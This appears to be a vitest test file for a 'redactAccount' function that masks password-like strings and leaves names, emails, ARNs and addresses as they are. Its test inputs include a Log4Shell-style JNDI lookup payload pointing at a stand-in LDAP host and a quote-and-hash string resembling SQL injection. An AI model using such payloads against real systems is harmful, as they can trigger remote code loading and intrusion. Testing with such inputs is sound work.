import { expect, it } from 'vitest';
import { redactAccount } from './redact-account.ts';

it.each([
  ['admin:Hunter2!', 'admin:****'],
  ['hunter2SECRET!', '****'],
  ['Spring#2026', '****'],
  ['Taro2026', 'Taro2026'],
  ['Taro2026@shop.example', 'Taro2026@shop.example'],
  ["Admin1'#", "Admin1'#"],
  ['${jndi:ldap://X1.example/a!}', '${jndi:ldap://X1.example/a!}'],
  ['tanaka', 'tanaka'],
  ['tanaka@shop.example', 'tanaka@shop.example'],
  ['shop:taro', 'shop:taro'],
  ['member:1024', 'member:1024'],
  ['arn:example:iam::123:user/x1', 'arn:example:iam::123:user/x1'],
  ['2001:db8::1', '2001:db8::1'],
])('%s is shown as %s', (account, shown) => {
  expect(redactAccount(account)).toBe(shown);
});
